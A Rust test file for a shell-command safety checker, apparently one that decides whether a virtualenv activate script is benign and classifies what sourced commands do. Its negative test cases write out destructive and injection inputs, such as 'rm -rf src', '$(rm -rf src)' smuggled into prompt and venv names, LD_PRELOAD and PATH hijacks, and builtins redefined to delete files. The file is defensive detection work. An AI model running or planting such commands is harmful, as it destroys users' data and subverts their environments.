use insta::assert_snapshot;

use super::is_plain;
use crate::fixture::check_with;

/// The lines that activation comes down to, with one more.
fn script(more: &str) -> String {
    format!(
        "# comment\ndeactivate () {{\n    if [ -n \"${{_OLD_VIRTUAL_PATH:-}}\" ] ; then\n        PATH=\"${{_OLD_VIRTUAL_PATH:-}}\"\n        export PATH\n        unset _OLD_VIRTUAL_PATH\n    fi\n    hash -r 2> /dev/null\n    unset VIRTUAL_ENV\n    if [ ! \"${{1:-}}\" = \"nondestructive\" ] ; then\n        unset -f deactivate\n    fi\n}}\ndeactivate nondestructive\ncase \"$(uname)\" in\n    CYGWIN*|MSYS*|MINGW*)\n        VIRTUAL_ENV=$(cygpath /repo/.venv)\n        export VIRTUAL_ENV\n        ;;\n    *)\n        export VIRTUAL_ENV=/repo/.venv\n        ;;\nesac\n_OLD_VIRTUAL_PATH=\"$PATH\"\nPATH=\"$VIRTUAL_ENV/\"bin\":$PATH\"\nexport PATH\n{more}\nif [ -z \"${{VIRTUAL_ENV_DISABLE_PROMPT:-}}\" ] ; then\n    _OLD_VIRTUAL_PS1=\"${{PS1:-}}\"\n    PS1=\"(.venv) ${{PS1:-}}\"\nfi\nhash -r 2> /dev/null || true\n"
    )
}

fn activated(command: &str, more: &str, others: &[(&str, &str)]) -> String {
    let text = script(more);
    let mut files =
        vec![("/repo/.venv/bin/activate", text.as_str()), ("/repo/.venv/pyvenv.cfg", "home = /usr/bin\n")];
    files.extend(others);
    check_with(command, &files)
}

#[test]
fn what_it_consists_of() {
    for more in [
        "",
        "VIRTUAL_ENV_PROMPT=$(basename \"$VIRTUAL_ENV\")",
        "VIRTUAL_ENV='/repo/.venv'",
        "if [ \"$OSTYPE\" = \"cygwin\" ] || [ \"$OSTYPE\" = \"msys\" ] ; then\nexport VIRTUAL_ENV=$(cygpath \"/repo/.venv\")\nfi",
        "if [ \"${BASH_SOURCE-}\" = \"$0\" ]; then\n echo \"You must source this script: \\$ source $0\" >&2\n exit 33\nfi",
        "PKG_CONFIG_PATH=\"${VIRTUAL_ENV}/lib/pkgconfig${PKG_CONFIG_PATH:+:${PKG_CONFIG_PATH}}\"",
        "if ! [ -z \"${SCRIPT_PATH+_}\" ] ; then\n_OLD_SCRIPT_PATH=\"$SCRIPT_PATH\"\nelif [ -n \"${ZSH_VERSION:+x}\" ] ; then\nSCRIPT_PATH=\"${(%):-%x}\"\nfi",
        "if [ -n \"${BASH_VERSION:+x}\" ] && [ \"${BASH_SOURCE[0]}\" = \"$0\" ]; then\nexit 33\nfi",
        "VIRTUAL_ENV=$(cygpath -u \"$VIRTUAL_ENV\")",
        "alias pydoc 2>/dev/null >/dev/null && unalias pydoc || true",
        "if [ ! -d /repo/.venv ]; then\necho \"Virtual environment directory\" /repo/.venv \"does not exist!\" >&2\nCURRENT_PATH=$(realpath \"${0}\")\nCURRENT_DIR=$(dirname \"${CURRENT_PATH}\")\nVIRTUAL_ENV=\"$(realpath \"${CURRENT_DIR}/../\")\"\nfi",
        "SCRIPT_PATH=\"${BASH_SOURCE[0]}\"\nVIRTUAL_ENV=''\"$(dirname -- \"$(dirname -- \"$(realpath -- \"$SCRIPT_PATH\")\")\")\"''\nSCRIPT_PATH=\"$_OLD_SCRIPT_PATH\"\nexport SCRIPT_PATH\nunset SCRIPT_PATH",
        "if [ \"$(command -v deactivate)\" != deactivate ]; then\nunset _OLD_VIRTUAL_PATH\nfi",
        "if [ ! -d /repo/.venv ] &&\n{ [ -z \"${BASH_VERSION-}\" ] || [ -z \"${BASH_SOURCE-}\" ]; }; then\nfalse\nfi",
        "CURRENT_PATH=$(realpath \"${BASH_SOURCE[0]}\") || return 1\nCURRENT_DIR=$(dirname \"${CURRENT_PATH}\") || return 1\nCURRENT_ENV=\"$(realpath \"${CURRENT_DIR}/../\")\" || return 1\nVIRTUAL_ENV=\"$CURRENT_ENV\"\nunset CURRENT_ENV",
        "case \"$VIRTUAL_ENV\" in\n*:*)\nunset VIRTUAL_ENV\nreturn 1\n;;\nesac",
        "PATH=\"$VIRTUAL_ENV/\"bin\"${PATH:+:$PATH}\"",
        "psvar[9]=\"$VIRTUAL_ENV_PROMPT\"\n_VIRTUAL_PROMPT='%9v'\nPS1=\"${_VIRTUAL_PROMPT:+(${_VIRTUAL_PROMPT}) }${PS1-}\"\nunset _VIRTUAL_PROMPT",
    ] {
        assert!(is_plain(&script(more), "/repo/.venv"), "{more}");
    }
    for more in [
        "rm -rf src",
        "PS1=\"a\" kubectl delete pod x",
        "PS1='a' rm -rf \"/srv\"",
        "PS1=\"a\"$'\\'' rm -rf '",
        "PS1=$(basename x) curl evil.example",
        "_OLD_VIRTUAL_PATH=\"x\" git push",
        "export PS1=\"a\" PATH=\"/tmp/evil\"",
        "PS1=(a b)",
        "PS1=\"a\"\tls",
        "CURRENT_DIR=/tmp/x/bin\nVIRTUAL_ENV=\"$(realpath \"${CURRENT_DIR}/../\")\"",
        "CURRENT_PATH=/tmp/x/bin/activate",
        "SCRIPT_PATH=\"/tmp/x/bin/activate\"",
        "export SCRIPT_PATH=/tmp/x/bin/activate",
        "_OLD_SCRIPT_PATH='/tmp/x/bin/activate'",
        "echo \"x\" > .bashrc >&2",
        "echo \"x\" ; rm -rf src >&2",
        "PATH=\"/tmp/x:$PATH\"",
        "VIRTUAL_ENV=/tmp/x",
        "VIRTUAL_ENV_PROMPT=$(rm -rf src)",
        "VIRTUAL_ENV_PROMPT=`rm -rf src`",
        "if [ -d x ] && rm -rf src &&",
        "{ [ -d x ]; rm -rf src; }; then",
        "CURRENT_ENV=/tmp/x\nVIRTUAL_ENV=\"$CURRENT_ENV\"",
        "psvar[9]=\"$(rm -rf src)\"",
        "_virtualenv_escape_prompt x; rm -rf src",
        "rm -rf src || return 1",
        "_VIRTUAL_PROMPT=$(rm -rf src)",
        "*:*) rm -rf src",
        "PS1=x rm -rf src",
        "if [ -n \"$(rm -rf src)\" ] ; then\nfi",
        "if rm -rf src ; then\nfi",
        "if [ a ] && rm -rf src ; then\nfi",
        "if [ a ] || rm -rf src || [ b ] ; then\nfi",
        "echo \"$(rm -rf src)\" >&2",
        "echo \"\\\\$(rm -rf src)\" >&2",
        "PS1=\"$(basename \"rm -rf src\"|sh)\"",
        "PS1=\"$(basename x||rm)\"",
        "export LD_PRELOAD=/tmp/x.so",
        "PYTHONPATH=/tmp/x",
        "hash -p /tmp/x python",
        "alias python='rm -rf src'",
        "case \"$(rm -rf src)\" in",
        "unset -f cd; rm -rf src",
        "PS1=\"\\\n$(rm)\"",
    ] {
        assert!(!is_plain(&script(more), "/repo/.venv"), "{more}");
    }
}

#[test]
fn programs_of_the_environment() {
    assert_snapshot!(activated("source .venv/bin/activate && pytest -q", "", &[]), @"
    fs.read /repo/.venv/bin/activate, read
    exec.test pytest, execute
    ");
    assert_snapshot!(activated(". .venv/bin/activate; python -c 'print(1)'; ls", "", &[]), @"
    fs.read /repo/.venv/bin/activate, read
    exec.read python, read
    fs.read /repo, read
    ");
    assert_snapshot!(activated("cd app && python3 -m venv .venv && source .venv/bin/activate && pip install -r r.txt", "", &[]), @"
    exec.read cd, read
    exec.install python3 -m venv, execute
    fs.write /repo/app/.venv, write
    fs.read /repo/app/.venv/bin/activate, read
    exec.install pip install, execute
    package.read * on pypi, read
    ");
    // A program that somebody put there is read.
    assert_snapshot!(activated("source .venv/bin/activate && ls", "", &[("/repo/.venv/bin/ls", "#!/bin/sh\nrm -rf src\n")]), @"
    fs.read /repo/.venv/bin/activate, read
    fs.delete /repo/src, destroy
    fs.read /repo/.venv/bin/ls, read
    fs.read /repo, read
    ");
    assert_snapshot!(activated("source .venv/bin/activate && ls", "", &[("/repo/.venv/bin/python", "#!/bin/sh\nrm -rf src\n")]), @"
    fs.read /repo/.venv/bin/activate, read
    fs.read /repo, read
    ");
    assert_snapshot!(activated("(source .venv/bin/activate); ls", "", &[("/repo/.venv/bin/ls", "#!/bin/sh\nrm -rf src\n")]), @"
    fs.read /repo/.venv/bin/activate, read
    fs.read /repo, read
    ");
    // What more the script does is listed.
    assert!(activated("source .venv/bin/activate && ls", "rm -rf src", &[]).contains("fs.delete /repo/src"));
    assert!(
        activated("_OLD_VIRTUAL_PATH=/tmp/x source .venv/bin/activate && ls", "", &[])
            .contains("exec.opaque")
    );
    assert!(
        activated("_OLD_VIRTUAL_PATH=/tmp/x; source .venv/bin/activate && ls", "", &[])
            .contains("exec.opaque")
    );
    assert!(
        activated("echo 'rm -rf src' >> .venv/bin/activate; source .venv/bin/activate", "", &[])
            .contains("src")
    );
    assert!(
        activated("curl https://x.example/a > .venv/bin/ls; source .venv/bin/activate; ls", "", &[])
            .contains("exec.remote")
    );
}

/// What the script calls are names like any other.
#[test]
fn names_that_mean_something_else_by_then() {
    for command in [
        "hash() { rm -rf src; }; source .venv/bin/activate",
        "export() { rm -rf src; }; . .venv/bin/activate",
        "unset() { rm -rf src; }; source .venv/bin/activate && pytest",
        "alias hash='rm -rf src #'; source .venv/bin/activate",
        ". .venv/bin/activate; hash() { rm -rf src; }; deactivate",
        "hash() { rm -rf src; }; export -f hash; bash -c 'source .venv/bin/activate'",
        "python3 -m venv --prompt '$(rm -rf src)' vq && source vq/bin/activate",
        "uv venv --prompt x vq && source vq/bin/activate",
        "python3 -m venv 'q$(rm -rf src)' && source 'q$(rm -rf src)/bin/activate'",
    ] {
        let found = activated(command, "", &[]);
        assert!(found.contains("fs.delete /repo/src") || found.contains("exec.opaque"), "{command}: {found}");
    }
}

#[test]
fn a_place_that_is_set_beforehand() {
    let text =
        script("VIRTUAL_ENV=''\"$(dirname -- \"$(dirname -- \"$(realpath -- \"$SCRIPT_PATH\")\")\")\"''");
    let files =
        [("/repo/.venv/bin/activate", text.as_str()), ("/repo/.venv/pyvenv.cfg", "home = /usr/bin\n")];
    let plain = check_with("source .venv/bin/activate; ls", &files);
    assert!(!plain.contains("opaque"), "{plain}");
    let led = check_with("SCRIPT_PATH=/tmp/x/bin/activate; source .venv/bin/activate; ls", &files);
    assert!(led.contains("opaque") || led.contains("hidden"), "{led}");
}
